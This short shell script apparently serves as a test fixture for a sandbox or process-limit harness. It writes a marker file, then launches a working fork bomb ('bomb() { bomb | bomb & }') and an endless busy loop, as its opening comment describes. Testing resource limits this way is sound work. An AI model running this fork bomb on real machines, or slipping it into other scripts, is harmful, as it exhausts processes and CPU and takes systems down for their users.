# Forks without end, and does not end itself.
mkdir out
echo result >out/kept
echo started
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
